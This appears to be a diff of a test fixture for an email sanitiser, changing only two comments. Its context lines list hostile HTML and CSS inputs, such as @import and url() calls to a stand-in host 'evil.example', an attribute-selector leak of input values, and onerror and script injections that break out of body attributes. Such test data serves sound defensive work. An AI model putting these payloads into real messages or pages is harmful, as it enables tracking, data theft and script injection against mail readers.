@@ -1,4 +1,4 @@
-/** What a browser would fetch, or cover the page with, as soon as the mail is shown. */
+/** Markup that makes a browser fetch something, or cover the page, as soon as the mail is shown. */
 
 const e = 'https://evil.example/load';
 
@@ -33,7 +33,7 @@ const sheets = [
   `<!--</style><img src=x onerror=RUN()>-->`, `@charset "x";@import "${e}"`, `@namespace url(${e});`, `@document url(${e}){}`, `body::before{content:url(${e})}`, `input[value^=a]{background:url(${e})}`, `:root{--x:url(${e})}*{background:var(--x)}`,
 ]; // prettier-ignore
 
-/** Its colours are kept on an element of ours. */
+/** The sanitiser keeps its colours on an element of its own. */
 const bodies = [
   ...declarations.map((style) => `<body style="color:red;${style}">a</body>`),
   `<body bgcolor="red;background:url(${e})" text="red;position:fixed">a`, `<body bgcolor='"><img src=x onerror=RUN()>' text='</div><script>RUN()</script>'>a`, `<body text="red" text="url(${e})">a<body bgcolor="url(${e})">`,
